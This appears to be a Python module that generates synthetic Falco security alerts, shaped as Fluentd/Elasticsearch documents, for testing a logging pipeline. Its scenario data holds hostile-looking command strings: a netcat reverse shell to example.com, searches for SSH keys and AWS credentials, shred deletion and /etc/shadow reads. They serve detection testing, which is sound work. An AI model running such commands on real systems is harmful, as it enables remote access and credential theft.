"""Falco alerts as Fluentd stores them in Elasticsearch, generated without Falco or Fluentd.

The local cluster has no real nodes, so nothing runs Falco's driver and nothing tails
``/var/log/containers``. While Falco pods are ready, this module answers "which documents would
have landed in Elasticsearch during [start, end)?" as a pure function of a seed, the ready Falco
pods and the window.

What one document is, end to end:

1. Falco (``json_output: true``, tags included) prints one JSON line per alert on stdout: keys
   ``hostname output output_fields priority rule source tags time``, sorted (nlohmann::json), with
   ``hostname`` = ``FALCO_HOSTNAME`` = ``spec.nodeName`` as the chart sets it, and the container
   plugin's suggested output appended to every syscall rule's text (Falco >= 0.41 default).
2. containerd writes it as a CRI log line; Fluentd's in_tail parser (the addon's
   ``^(?<time>.+) (?<stream>stdout|stderr) [^ ]* (?<log>.*)$``) keeps ``stream`` and ``log``.
3. kubernetes_metadata adds ``docker.container_id`` (from the log file name) and ``kubernetes{...}``.
4. A parser filter on ``log`` (JSON, ``reserve_data true``, ``log`` and ``time`` kept) lifts Falco's
   keys to the top level.
5. fluent-plugin-elasticsearch with ``logstash_format`` adds ``@timestamp`` as
   ``Time.at(time).to_datetime.iso8601(9)`` and indexes into ``logstash-YYYY.MM.DD`` (UTC).

Determinism: every event comes from a per-(seed, pod, stream, 60 s slot) random generator, so a
window's documents never depend on what was asked before, and [a, b) + [b, c) == [a, c).
"""

# The rule table is data; its size is the domain's.
# pylint: disable=too-many-lines,too-many-arguments,too-many-locals,too-many-instance-attributes

from __future__ import annotations

import dataclasses
import datetime
import hashlib
import json
import math
import random
import re
from dataclasses import dataclass, field
from typing import Any, Mapping, Sequence

Obj = dict[str, Any]

GENERATOR_RATE_PER_HOUR = 2800.0
"""The runbook: the event-generator Deployment creates "about 2,800 [alerts] per hour"."""

BACKGROUND_RATE_PER_HOUR = 3.0
"""A quiet node's Falco still fires a few times an hour (API-server clients, kubectl exec, ...)."""

SLOT_SECONDS = 60
"""Randomness is drawn per aligned slot; any fixed size keeps windows additive."""

DEFAULT_MASTER_URL = "https://10.96.0.1:443/api"
"""kubernetes_metadata's ``kubernetes_url`` built from KUBERNETES_SERVICE_HOST/PORT in a pod."""

CONTAINER_SUGGESTED_OUTPUT = (
    " container_id=%container.id container_name=%container.name"
    " container_image_repository=%container.image.repository container_image_tag=%container.image.tag"
    " k8s_pod_name=%k8s.pod.name k8s_ns_name=%k8s.ns.name"
)
"""What Falco >= 0.41 appends to syscall rules' output (``append_output: suggested_output``)."""

_FIELD_RE = re.compile(r"%([A-Za-z0-9_.]+(?:\[[0-9]+\])?)")

_NS = 1_000_000_000


@dataclass(frozen=True)
class FalcoPod:
    """A ready Falco pod: where it runs and what kubernetes_metadata knows of it."""

    node: str
    pod_name: str
    namespace: str
    pod_uid: str
    container_id: str
    labels: dict = field(default_factory=dict)
    image: str = "falcosecurity/falco:0.41.3"
    image_id: str = ""
    namespace_uid: str = ""
    pod_ip: str = ""
    # What this Falco's configuration costs its alerts (its image contract's "degrades": no_pod_metadata, no_fields, ...).
    degrades: frozenset = frozenset()
    # Falco drops alerts below its configured priority.
    minimum_priority: str = "debug"


PRIORITY_ORDER = ("emergency", "alert", "critical", "error", "warning", "notice", "informational", "debug")


@dataclass(frozen=True)
class GeneratorLoop:
    """What the event generator on a node does to Falco: alerts an hour, shared among rules by ``weights`` (rule -> alerts a loop)."""

    per_hour: float
    weights: Mapping[str, float]


@dataclass(frozen=True)
class Workload:
    """A container whose syscalls Falco sees: the event generator, or a pod making background noise."""

    pod_name: str
    namespace: str
    container_name: str
    image_repository: str
    image_tag: str
    container_id: str
    process: str
    cmdline: str
    exepath: str
    parent: str = "containerd-shim"
    pod_ip: str = "10.244.0.10"


@dataclass(frozen=True)
class Rule:
    """One Falco rule: how it reads in falco_rules.yaml and how often each source triggers it."""

    name: str
    priority: str
    tags: tuple
    output: str
    fields: tuple
    weight_generator: float
    weight_background: float
    source: str = "syscall"


def output_fields_of(template: str) -> tuple:
    """The field names a Falco output template references, in order of first use."""
    seen: list[str] = []
    for name in _FIELD_RE.findall(template):
        if name not in seen:
            seen.append(name)
    return tuple(seen)


_USER = "evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid"
_PROC = "process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty"
# Since falcosecurity/rules 4.x outputs read "Text | k=v ..." without %container.info (the container
# plugin's suggestion replaces it), and only exec-type rules keep exe_flags.
_TAIL_EXEC = f"{_USER} {_PROC} exe_flags=%evt.arg.flags"
_TAIL = f"{_USER} {_PROC}"
_NET = "connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=fd.l4proto"


def _rule(name: str, priority: str, tags: str, output: str, generator: float, background: float) -> Rule:
    return Rule(name=name, priority=priority, tags=tuple(sorted(tags.split())), output=output,
                fields=output_fields_of(output), weight_generator=generator, weight_background=background)


# Priorities and tags as falcosecurity/rules falco_rules.yaml writes them; priority in the form
# Falco prints in JSON ("Informational" for INFO). Generator weights are equal because
# `event-generator run syscall --loop` runs every action once per loop. The three incubating rules
# are not in the chart's default rules file, so the generator's actions for them alert nobody.
RULES: tuple = (
    _rule("Read sensitive file untrusted", "Warning",
          "maturity_stable host container filesystem mitre_credential_access T1555",
          "Sensitive file opened for reading by non-trusted program | file=%fd.name gparent=%proc.aname[2] "
          f"ggparent=%proc.aname[3] gggparent=%proc.aname[4] {_TAIL}", 1.0, 0.05),
    _rule("Read sensitive file trusted after startup", "Warning",
          "maturity_stable host container filesystem mitre_credential_access T1555",
          "Sensitive file opened for reading by trusted program after startup | file=%fd.name pcmdline=%proc.pcmdline "
          f"gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] {_TAIL}", 1.0, 0.0),
    _rule("Run shell untrusted", "Notice",
          "maturity_stable host container process shell mitre_execution T1059.004",
          "Shell spawned by untrusted binary | parent_exe=%proc.pexe parent_exepath=%proc.pexepath pcmdline=%proc.pcmdline "
          "gparent=%proc.aname[2] ggparent=%proc.aname[3] aname[4]=%proc.aname[4] aname[5]=%proc.aname[5] "
          f"aname[6]=%proc.aname[6] aname[7]=%proc.aname[7] {_TAIL_EXEC}", 1.0, 0.05),
    _rule("System user interactive", "Informational",
          "maturity_stable host container users mitre_execution T1059 NIST_800-53_AC-2",
          f"System user ran an interactive command | {_TAIL_EXEC}", 1.0, 0.0),
    _rule("Terminal shell in container", "Notice",
          "maturity_stable container shell mitre_execution T1059",
          f"A shell was spawned in a container with an attached terminal | {_TAIL_EXEC}", 0.0, 0.15),
    _rule("Contact K8S API Server From Container", "Notice",
          "maturity_stable container network k8s mitre_discovery T1565",
          f"Unexpected connection to K8s API Server from container | {_NET} {_TAIL}", 1.0, 0.65),
    _rule("Netcat Remote Code Execution in Container", "Warning",
          "maturity_stable container network process mitre_execution T1059",
          f"Netcat runs inside container that allows remote code execution | {_TAIL_EXEC}", 1.0, 0.0),
    _rule("Search Private Keys or Passwords", "Warning",
          "maturity_stable host container process filesystem mitre_credential_access T1552.001",
          f"Grep private keys or passwords activities found | {_TAIL_EXEC}", 1.0, 0.0),
    _rule("Clear Log Activities", "Warning",
          "maturity_stable host container filesystem mitre_defense_evasion T1070 NIST_800-53_AU-10",
          f"Log files were tampered | file=%fd.name {_TAIL}", 1.0, 0.0),
    _rule("Remove Bulk Data from Disk", "Warning",
          "maturity_stable host container process filesystem mitre_impact T1485",
          f"Bulk data has been removed from disk | file=%fd.name {_TAIL_EXEC}", 1.0, 0.0),
    _rule("Create Symlink Over Sensitive Files", "Warning",
          "maturity_stable host container filesystem mitre_credential_access T1555",
          f"Symlinks created over sensitive files | target=%evt.arg.target linkpath=%evt.arg.linkpath {_TAIL}", 1.0, 0.0),
    _rule("Create Hardlink Over Sensitive Files", "Warning",
          "maturity_stable host container filesystem mitre_credential_access T1555",
          f"Hardlinks created over sensitive files | target=%evt.arg.target linkpath=%evt.arg.linkpath {_TAIL}", 1.0, 0.0),
    _rule("Directory traversal monitored file read", "Warning",
          "maturity_stable host container filesystem mitre_credential_access T1555",
          "Read monitored file via directory traversal | file=%fd.name fileraw=%fd.nameraw gparent=%proc.aname[2] "
          f"ggparent=%proc.aname[3] gggparent=%proc.aname[4] {_TAIL}", 1.0, 0.0),
    _rule("Packet socket created in container", "Notice",
          "maturity_stable container network mitre_credential_access T1557.002",
          f"Packet socket was created in a container | socket_info=%evt.args {_NET} {_TAIL}", 1.0, 0.05),
    _rule("Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
          "maturity_stable container network process mitre_execution T1059",
          "Redirect stdout/stdin to network connection | gparent=%proc.aname[2] ggparent=%proc.aname[3] "
          f"gggparent=%proc.aname[4] fd.sip=%fd.sip {_NET} {_TAIL}", 1.0, 0.0),
    _rule("Debugfs Launched in Privileged Container", "Warning",
          "maturity_stable container cis process mitre_privilege_escalation T1611",
          f"Debugfs launched started in a privileged container | {_TAIL_EXEC}", 1.0, 0.0),
    _rule("Detect release_agent File Container Escapes", "Critical",
          "maturity_stable container process mitre_privilege_escalation T1611",
          "Detect an attempt to exploit a container escape using release_agent file | file=%fd.name "
          f"cap_effective=%thread.cap_effective {_TAIL}", 1.0, 0.0),
    _rule("PTRACE attached to process", "Warning",
          "maturity_stable host container process mitre_privilege_escalation T1055.008",
          f"Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=%proc.pcmdline {_TAIL}", 1.0, 0.0),
    _rule("PTRACE anti-debug attempt", "Notice",
          "maturity_stable host container process mitre_defense_evasion T1622",
          f"Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=%proc.pcmdline {_TAIL}", 1.0, 0.0),
    _rule("Find AWS Credentials", "Warning",
          "maturity_stable host container process aws mitre_credential_access T1552",
          "Detected AWS credentials search activity | proc_pcmdline=%proc.pcmdline proc_cwd=%proc.cwd group_gid=%group.gid "
          f"group_name=%group.name user_loginname=%user.loginname {_TAIL_EXEC}", 1.0, 0.0),
    _rule("Execution from /dev/shm", "Warning",
          "maturity_stable host container mitre_execution T1059.004",
          "File execution detected from /dev/shm | evt_res=%evt.res file=%fd.name proc_cwd=%proc.cwd "
          "proc_pcmdline=%proc.pcmdline user_loginname=%user.loginname group_gid=%group.gid group_name=%group.name "
          f"{_TAIL_EXEC}", 1.0, 0.0),
    _rule("Drop and execute new binary in container", "Critical",
          "maturity_stable container process mitre_persistence TA0003 PCI_DSS_11.5.1",
          "Executing binary not part of base image | proc_exe=%proc.exe proc_sname=%proc.sname gparent=%proc.aname[2] "
          "proc_exe_ino_ctime=%proc.exe_ino.ctime proc_exe_ino_mtime=%proc.exe_ino.mtime "
          "proc_exe_ino_ctime_duration_proc_start=%proc.exe_ino.ctime_duration_proc_start proc_cwd=%proc.cwd "
          f"container_start_ts=%container.start_ts {_TAIL_EXEC}", 1.0, 0.0),
    _rule("Fileless execution via memfd_create", "Critical",
          "maturity_stable host container process mitre_defense_evasion T1620",
          "Fileless execution via memfd_create | container_start_ts=%container.start_ts proc_cwd=%proc.cwd evt_res=%evt.res "
          f"proc_sname=%proc.sname gparent=%proc.aname[2] {_TAIL_EXEC}", 1.0, 0.0),
    _rule("Disallowed SSH Connection Non Standard Port", "Notice",
          "maturity_stable host container network process mitre_execution T1059",
          f"Disallowed SSH Connection | {_NET} {_TAIL}", 1.0, 0.0),
    _rule("Write below etc", "Error",
          "maturity_incubating host container filesystem mitre_persistence T1037",
          "File below /etc opened for writing | file=%fd.name pcmdline=%proc.pcmdline gparent=%proc.aname[2] "
          f"ggparent=%proc.aname[3] gggparent=%proc.aname[4] {_TAIL}", 0.0, 0.0),
    _rule("Write below binary dir", "Error",
          "maturity_incubating host container filesystem mitre_persistence T1543",
          f"File below a known binary directory opened for writing | file=%fd.name pcmdline=%proc.pcmdline gparent=%proc.aname[2] {_TAIL}",
          0.0, 0.0),
    _rule("Launch Package Management Process in Container", "Error",
          "maturity_incubating container process software_mgmt mitre_persistence T1505",
          f"Package management process launched in container | {_TAIL_EXEC}", 0.0, 0.0),
)

RULES_BY_NAME: Mapping[str, Rule] = {rule.name: rule for rule in RULES}

_EXEC_FLAGS = "EXE_WRITABLE|EXE_LOWER_LAYER"
_GEN_TMP = "/tmp/falco-event-generator-syscall-{action}-{rand}"
_CAPS_PRIVILEGED = (
    "CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP "
    "CAP_LINUX_IMMUTABLE CAP_NET_BIND_SERVICE CAP_NET_BROADCAST CAP_NET_ADMIN CAP_NET_RAW CAP_IPC_LOCK CAP_IPC_OWNER "
    "CAP_SYS_MODULE CAP_SYS_RAWIO CAP_SYS_CHROOT CAP_SYS_PTRACE CAP_SYS_PACCT CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_NICE "
    "CAP_SYS_RESOURCE CAP_SYS_TIME CAP_SYS_TTY_CONFIG CAP_MKNOD CAP_LEASE CAP_AUDIT_WRITE CAP_AUDIT_CONTROL CAP_SETFCAP "
    "CAP_MAC_OVERRIDE CAP_MAC_ADMIN CAP_SYSLOG CAP_WAKE_ALARM CAP_BLOCK_SUSPEND CAP_AUDIT_READ CAP_PERFMON CAP_BPF "
    "CAP_CHECKPOINT_RESTORE"
)

# What each event-generator action looks like to Falco. "{...}" placeholders are filled per event
# (random temp-dir suffixes, ports, the generator's own pod IP); absent fields render as <NA>.
_GENERATOR_SCENARIOS: Mapping[str, Obj] = {
    "Read sensitive file untrusted": {"evt.type": "openat", "fd.name": "/etc/shadow"},
    "Read sensitive file trusted after startup": {
        "evt.type": "openat", "fd.name": "/etc/shadow", "proc.name": "httpd", "proc.exepath": "{tmp}/httpd",
        "proc.cmdline": "httpd --loglevel info run ^helper.ReadSensitiveFileTrustedAfterStartup$ --sleep 6s",
        "proc.pname": "event-generator", "proc.pcmdline": "event-generator run syscall --loop"},
    "Run shell untrusted": {
        "evt.type": "execve", "proc.name": "bash", "proc.exepath": "/bin/bash", "proc.cmdline": "bash -c ls > /dev/null",
        "proc.pname": "httpd", "proc.pexe": "{tmp}/httpd", "proc.pexepath": "{tmp}/httpd",
        "proc.pcmdline": "httpd --loglevel info run ^helper.RunShell$", "proc.aname[2]": "event-generator"},
    "System user interactive": {
        "evt.type": "execve", "user.name": "daemon", "user.uid": 1, "proc.name": "login", "proc.exepath": "{tmp}/login",
        "proc.cmdline": "login --loglevel info run ^helper.NoOp$"},
    "Contact K8S API Server From Container": {
        "evt.type": "connect", "fd.name": "{pod_ip}:{lport}->10.96.0.1:443", "fd.lport": "{lport:int}", "fd.rport": 443,
        "fd.type": "ipv4"},
    "Netcat Remote Code Execution in Container": {
        "evt.type": "execve", "proc.name": "nc", "proc.exepath": "{tmp}/nc", "proc.cmdline": "nc -e /bin/sh example.com 22"},
    "Search Private Keys or Passwords": {
        "evt.type": "execve", "proc.name": "find", "proc.exepath": "/usr/bin/find", "proc.cmdline": "find /root -name id_rsa"},
    "Clear Log Activities": {"evt.type": "openat", "fd.name": "{tmp}/syslog"},
    "Remove Bulk Data from Disk": {
        "evt.type": "execve", "proc.name": "shred", "proc.exepath": "/usr/bin/shred",
        "proc.cmdline": "shred -u {tmp}/created-by-event-generator"},
    "Create Symlink Over Sensitive Files": {
        "evt.type": "symlinkat", "evt.arg.target": "/etc", "evt.arg.linkpath": "{tmp}/etc_link"},
    # linkat has oldpath/newpath, not target/linkpath: the upstream output really prints <NA> here.
    "Create Hardlink Over Sensitive Files": {"evt.type": "linkat"},
    "Directory traversal monitored file read": {
        "evt.type": "openat", "fd.name": "/etc/shadow", "fd.nameraw": "/etc/../etc/../etc/shadow"},
    "Packet socket created in container": {
        "evt.type": "socket", "evt.args": "fd=3(<p>) domain=17(AF_PACKET) type=3 proto=768"},
    "Redirect STDOUT/STDIN to Network Connection in Container": {
        "evt.type": "dup2", "fd.name": "{pod_ip}:{lport}->10.96.0.1:443", "fd.lport": "{lport:int}", "fd.rport": 443,
        "fd.type": "ipv4", "fd.sip": "10.96.0.1"},
    "Debugfs Launched in Privileged Container": {
        "evt.type": "execve", "proc.name": "debugfs", "proc.exepath": "/sbin/debugfs", "proc.cmdline": "debugfs"},
    "Detect release_agent File Container Escapes": {
        "evt.type": "openat", "fd.name": "{tmp}/release_agent", "thread.cap_effective": _CAPS_PRIVILEGED},
    "PTRACE attached to process": {"evt.type": "ptrace", "proc.pcmdline": "containerd-shim -namespace k8s.io"},
    "PTRACE anti-debug attempt": {"evt.type": "ptrace", "proc.pcmdline": "containerd-shim -namespace k8s.io"},
    "Find AWS Credentials": {
        "evt.type": "execve", "proc.name": "find", "proc.exepath": "/usr/bin/find",
        "proc.cmdline": "find /root -name .aws/credentials", "proc.cwd": "/", "group.gid": 0, "group.name": "root",
        "user.loginname": None, "proc.pcmdline": "event-generator run syscall --loop"},
    "Execution from /dev/shm": {
        "evt.type": "execve", "proc.name": "sh", "proc.exepath": "/bin/sh",
        "proc.cmdline": "sh -c /dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-{rand}.sh", "evt.res": "SUCCESS",
        "proc.cwd": "/", "group.gid": 0, "group.name": "root", "proc.pcmdline": "event-generator run syscall --loop"},
    "Drop and execute new binary in container": {
        "evt.type": "execve", "proc.name": "falco-event-gen", "proc.exe": "{tmp}/falco-event-generator",
        "proc.exepath": "{tmp}/falco-event-generator", "proc.cmdline": "falco-event-gen --loglevel info run ^helper.NoOp$",
        "proc.sname": "event-generator", "proc.cwd": "/", "proc.exe_ino.ctime": "{now:int}", "proc.exe_ino.mtime": "{now:int}",
        "proc.exe_ino.ctime_duration_proc_start": 1500000},
    "Fileless execution via memfd_create": {
        "evt.type": "execve", "proc.name": "3", "proc.exepath": "memfd:program", "proc.cmdline": "3 --loglevel info run ^helper.NoOp$",
        "proc.sname": "event-generator", "proc.cwd": "/", "evt.res": "SUCCESS"},
    "Disallowed SSH Connection Non Standard Port": {
        "evt.type": "connect", "proc.name": "ssh", "proc.exepath": "/usr/bin/ssh", "proc.cmdline": "ssh -p 443 example.com",
        "fd.name": "{pod_ip}:{lport}->93.184.215.14:443", "fd.lport": "{lport:int}", "fd.rport": 443, "fd.type": "ipv4"},
}

_BACKGROUND_SCENARIOS: Mapping[str, Obj] = {
    "Contact K8S API Server From Container": {
        "evt.type": "connect", "fd.name": "{pod_ip}:{lport}->10.96.0.1:443", "fd.lport": "{lport:int}", "fd.rport": 443,
        "fd.type": "ipv4"},
    "Terminal shell in container": {
        "evt.type": "execve", "proc.name": "sh", "proc.exepath": "/bin/sh", "proc.cmdline": "sh", "proc.pname": "runc",
        "proc.tty": 34816},
    "Run shell untrusted": {
        "evt.type": "execve", "proc.name": "sh", "proc.exepath": "/bin/sh", "proc.cmdline": "sh -c ulimit -n",
        "proc.pexe": "{exepath}", "proc.pexepath": "{exepath}", "proc.pcmdline": "{cmdline}", "proc.pname": "{process}"},
    "Read sensitive file untrusted": {"evt.type": "openat", "fd.name": "/etc/shadow", "proc.name": "{process}"},
    "Packet socket created in container": {
        "evt.type": "socket", "evt.args": "fd=3(<p>) domain=17(AF_PACKET) type=3 proto=768"},
}


def _digest(*parts: object) -> bytes:
    return hashlib.blake2b("|".join(str(part) for part in parts).encode(), digest_size=32).digest()


def _hex(*parts: object) -> str:
    return _digest(*parts).hex()


def _rng(*parts: object) -> random.Random:
    return random.Random(int.from_bytes(_digest(*parts)[:8], "big"))


def _poisson(rng: random.Random, lam: float) -> int:
    """Knuth's method, in chunks so exp(-lam) never underflows at high test speeds."""
    count = 0
    while lam > 0:
        chunk = min(lam, 30.0)
        lam -= chunk
        limit = math.exp(-chunk)
        product = rng.random()
        while product > limit:
            count += 1
            product *= rng.random()
    return count


def _to_ns(epoch: float) -> int:
    whole = math.floor(epoch)
    return whole * _NS + round((epoch - whole) * _NS)


def _utc(ns: int) -> datetime.datetime:
    return datetime.datetime.fromtimestamp(ns // _NS, tz=datetime.timezone.utc)


def falco_time(ns: int) -> str:
    """Falco's JSON ``time``: RFC 3339 UTC with nanoseconds and a ``Z``."""
    return _utc(ns).strftime("%Y-%m-%dT%H:%M:%S") + f".{ns % _NS:09d}Z"


def logstash_timestamp(ns: int) -> str:
    """``@timestamp`` as fluent-plugin-elasticsearch writes it: ``DateTime#iso8601(9)`` in UTC."""
    return _utc(ns).strftime("%Y-%m-%dT%H:%M:%S") + f".{ns % _NS:09d}+00:00"


def index_name(timestamp: float, prefix: str = "logstash") -> str:
    """The daily index logstash_format writes a document of that epoch time into (UTC, ``utc_index``)."""
    day = datetime.datetime.fromtimestamp(math.floor(timestamp), tz=datetime.timezone.utc)
    return f"{prefix}-{day.strftime('%Y.%m.%d')}"


def qualified_image(image: str) -> str:
    """An image reference as containerd reports it in ``containerStatuses[].image``."""
    first, sep, rest = image.partition("/")
    if sep and ("." in first or ":" in first or first == "localhost"):
        return image
    return f"docker.io/{image}" if sep else f"docker.io/library/{image}"


def _split_image(image: str) -> tuple[str, str]:
    name = qualified_image(image).split("@", 1)[0]
    repo, sep, tag = name.rpartition(":")
    if not sep or "/" in tag:
        return name, "latest"
    return repo, tag


def _bare_container_id(container_id: str) -> str:
    return re.sub(r"^[-_a-zA-Z0-9]+://", "", container_id)


def _de_dot(labels: Mapping[str, Any]) -> Obj:
    return {key.replace(".", "_"): value for key, value in labels.items()}


def dedot(value: Any, nested: bool = True) -> Any:
    """A record after fluent-plugin-dedot_filter 1.0.0 (``de_dot_separator _``): the keys' dots become "_"; with
    ``de_dot_nested true`` in nested hashes and hashes inside arrays too, else in the top-level keys only
    (lunardial/fluent-plugin-dedot_filter lib/fluent/plugin/filter_dedot.rb). What the efk role's Fluentd does to Falco's
    records: ``output_fields["k8s.pod.name"]`` is stored as ``output_fields.k8s_pod_name``."""
    if isinstance(value, dict):
        return {str(key).replace(".", "_"): (dedot(item) if nested else item) for key, item in value.items()}
    if isinstance(value, list):
        return [dedot(item) if isinstance(item, dict) else item for item in value]
    return value


def render_output(template: str, values: Mapping[str, Any]) -> str:
    """Falco's text rendering of an output template: missing values print as ``<NA>``."""
    def one(match: re.Match) -> str:
        value = values.get(match.group(1))
        return "<NA>" if value is None else str(value)
    return _FIELD_RE.sub(one, template)


class AlertStream:
    """Deterministic Falco -> Fluentd -> Elasticsearch documents for any time window."""

    def __init__(self, seed: int = 0, *, master_url: str | None = DEFAULT_MASTER_URL,
                 generator_rate: float = GENERATOR_RATE_PER_HOUR, background_rate: float = BACKGROUND_RATE_PER_HOUR,
                 rules: Sequence[Rule] = RULES) -> None:
        """``master_url=None`` models kubernetes_metadata's ``skip_master_url``; rates are per hour per Falco pod.

        ``rules`` replaces the loaded rule set (e.g. with incubating rules weighted in, as if loaded).
        """
        self.seed = seed
        self.master_url = master_url
        self.generator_rate = generator_rate
        self.background_rate = background_rate
        self._generator_rules = tuple(rule for rule in rules if rule.weight_generator > 0)
        self._background_rules = tuple(rule for rule in rules if rule.weight_background > 0)

    def default_generator(self, node: str) -> Workload:
        """The event-generator pod assumed on ``node`` when the caller names none."""
        suffix = _hex(self.seed, "generator", node)
        return Workload(pod_name=f"event-generator-{_pod_hash(suffix)}", namespace="event-generator",
                        container_name="event-generator", image_repository="docker.io/falcosecurity/event-generator",
                        image_tag="latest", container_id=suffix[:64], process="event-generator",
                        cmdline="event-generator run syscall --loop", exepath="/bin/event-generator",
                        pod_ip=_pod_ip(suffix))

    def default_workloads(self, node: str) -> tuple:
        """The pods assumed to make background noise on ``node`` when the caller names none."""
        fluentd = _hex(self.seed, "fluentd", node)
        elastic = _hex(self.seed, "elasticsearch", node)
        return (
            Workload(pod_name=f"fluentd-es-{_pod_hash(fluentd)[-5:]}", namespace="logging", container_name="fluentd-es",
                     image_repository="quay.io/fluentd_elasticsearch/fluentd", image_tag="v3.1.0",
                     container_id=fluentd[:64], process="ruby", cmdline="ruby /usr/local/bin/fluentd --no-supervisor -q",
                     exepath="/usr/local/bin/ruby", pod_ip=_pod_ip(fluentd)),
            Workload(pod_name="elasticsearch-logging-0", namespace="logging", container_name="elasticsearch-logging",
                     image_repository="quay.io/fluentd_elasticsearch/elasticsearch", image_tag="v7.10.2",
                     container_id=elastic[:64], process="java", cmdline="java -Xms1g -Xmx1g org.elasticsearch.bootstrap.Elasticsearch",
                     exepath="/usr/share/elasticsearch/jdk/bin/java", pod_ip=_pod_ip(elastic)),
        )

    def alerts(self, pods: list[FalcoPod], start: float, end: float, generator_nodes: frozenset[str] = frozenset(),
               speed: float = 1.0, *, generators: Mapping[str, Workload] | None = None,
               workloads: Mapping[str, Sequence[Workload]] | None = None,
               loops: Mapping[str, GeneratorLoop] | None = None) -> list[dict]:
        """Documents for [start, end) in time order; ``pods`` are the ready Falco pods.

        ``generators`` / ``workloads`` name the event-generator pod and the background pods per node;
        nodes not named get :meth:`default_generator` / :meth:`default_workloads`. ``loops`` says, per node, what the
        generator's loop gives (its rate and rules, from its arguments and privileges); nodes not named get this
        stream's ``generator_rate`` over every generator rule.
        """
        start_ns, end_ns = _to_ns(start), _to_ns(end)
        if end_ns <= start_ns or speed <= 0:
            return []
        slot_ns = SLOT_SECONDS * _NS
        events: list[tuple[int, str, str, int, Obj]] = []
        for pod in pods:
            streams = [("background", self.background_rate, self._background_rules, None)]
            if pod.node in generator_nodes:
                generator = (generators or {}).get(pod.node) or self.default_generator(pod.node)
                loop = (loops or {}).get(pod.node)
                if loop is None:
                    streams.append(("generator", self.generator_rate, self._generator_rules, generator))
                else:
                    weighted = tuple(dataclasses.replace(RULES_BY_NAME[name], weight_generator=float(weight))
                                     for name, weight in sorted(loop.weights.items()) if name in RULES_BY_NAME and weight > 0)
                    streams.append(("generator", loop.per_hour, weighted, generator))
            noise = tuple((workloads or {}).get(pod.node) or self.default_workloads(pod.node))
            for stream, rate, rules, generator in streams:
                if rate <= 0 or not rules or (generator is None and not noise):
                    continue
                lam = rate * speed * SLOT_SECONDS / 3600.0
                for slot in range(start_ns // slot_ns, (end_ns - 1) // slot_ns + 1):
                    rng = _rng(self.seed, pod.node, pod.pod_uid, stream, slot)
                    count = _poisson(rng, lam)
                    offsets = sorted(rng.randrange(slot_ns) for _unused in range(count))
                    for seq, offset in enumerate(offsets):
                        # Draw everything for every event so filtering never shifts the random sequence.
                        rule = _pick(rng, rules, stream)
                        actor = generator if generator is not None else noise[rng.randrange(len(noise))]
                        draws = (rng.randrange(32768, 61000), rng.randrange(10 ** 9, 10 ** 10))
                        ns = slot * slot_ns + offset
                        if start_ns <= ns < end_ns and _kept(rule, pod):
                            events.append((ns, pod.node, stream, seq, self._document(pod, rule, actor, stream, ns, draws)))
        events.sort(key=lambda item: item[:4])
        return [item[4] for item in events]

    def _document(self, pod: FalcoPod, rule: Rule, actor: Workload, stream: str, ns: int, draws: tuple) -> Obj:
        values = _field_values(rule, actor, stream, ns, draws)
        # The container plugin fills these from the runtime: without its socket no pod fields; confined by AppArmor, no
        # container fields either.
        if "no_pod_metadata" in pod.degrades or "no_container_metadata" in pod.degrades:
            values.update({"k8s.pod.name": None, "k8s.ns.name": None})
        if "no_container_metadata" in pod.degrades:
            values.update({name: None for name in values if name.startswith("container.")})
        template = rule.output + CONTAINER_SUGGESTED_OUTPUT
        stamp = _utc(ns).strftime("%H:%M:%S") + f".{ns % _NS:09d}"
        falco = {
            "hostname": pod.pod_name if "pod_hostname" in pod.degrades else pod.node,
            "output": f"{stamp}: {rule.priority} {render_output(template, values)}",
            "output_fields": {name: values.get(name) for name in sorted(set(output_fields_of(template)) | {"evt.time"})},
            "priority": rule.priority,
            "rule": rule.name,
            "source": rule.source,
            "tags": sorted(rule.tags),
            "time": falco_time(ns),
        }
        line = json.dumps(falco, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        if "no_fields" in pod.degrades:
            line = falco["output"]  # text output: Fluentd keeps it as one string, no rule or priority field
        document: Obj = {"stream": "stdout", "log": line, "docker": {"container_id": _bare_container_id(pod.container_id)},
                         "kubernetes": self._kubernetes(pod)}
        if "no_fields" not in pod.degrades:
            document.update(json.loads(line))
        document["@timestamp"] = logstash_timestamp(ns)
        return document

    def _kubernetes(self, pod: FalcoPod) -> Obj:
        image = qualified_image(pod.image)
        image_id = pod.image_id or f"{_split_image(pod.image)[0]}@sha256:{hashlib.sha256(image.encode()).hexdigest()}"
        meta: Obj = {
            "container_name": "falco",
            "namespace_name": pod.namespace,
            "pod_name": pod.pod_name,
            "container_image": image,
            "container_image_id": image_id,
            "pod_id": pod.pod_uid,
            "host": pod.node,
        }
        if pod.pod_ip:
            meta["pod_ip"] = pod.pod_ip
        if pod.labels:
            meta["labels"] = _de_dot(pod.labels)
        if self.master_url:
            meta["master_url"] = self.master_url
        if pod.namespace_uid:
            meta["namespace_id"] = pod.namespace_uid
        return meta


def _kept(rule: Rule, pod: FalcoPod) -> bool:
    """Whether Falco emits the rule's alerts at its configured minimum priority."""
    minimum = pod.minimum_priority.lower() if pod.minimum_priority.lower() in PRIORITY_ORDER else "debug"
    return PRIORITY_ORDER.index(rule.priority.lower()) <= PRIORITY_ORDER.index(minimum)


def _pod_hash(digest: str) -> str:
    # ReplicaSet-style "<10 chars>-<5 chars>" from the safe-encoding alphabet kube uses.
    alphabet = "bcdfghjklmnpqrstvwxz2456789"
    chars = [alphabet[b % len(alphabet)] for b in bytes.fromhex(digest[:30])]
    return "".join(chars[:10]) + "-" + "".join(chars[10:15])


def _pod_ip(digest: str) -> str:
    raw = bytes.fromhex(digest[-4:])
    return f"10.244.{raw[0] % 64}.{raw[1] % 250 + 2}"


def _pick(rng: random.Random, rules: Sequence[Rule], stream: str) -> Rule:
    weights = [rule.weight_generator if stream == "generator" else rule.weight_background for rule in rules]
    return rng.choices(list(rules), weights=weights, k=1)[0]


